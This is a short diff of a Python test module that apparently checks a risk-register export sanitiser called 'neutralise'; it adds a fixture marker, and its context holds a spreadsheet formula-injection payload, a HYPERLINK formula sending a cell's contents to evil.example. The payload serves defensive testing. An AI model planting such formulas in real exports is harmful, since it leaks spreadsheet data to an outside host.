@@ -16,6 +16,9 @@ from models_catalog.models import Organisation, ProvenanceClaim
 from riskreg.core.exports import neutralise
 from tests.conftest import staff_client
 
+# Every test here runs on the rows the module builds once (tests/conftest.py, built_once_for_the_module).
+pytestmark = pytest.mark.usefixtures("_demo_catalog")
+
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
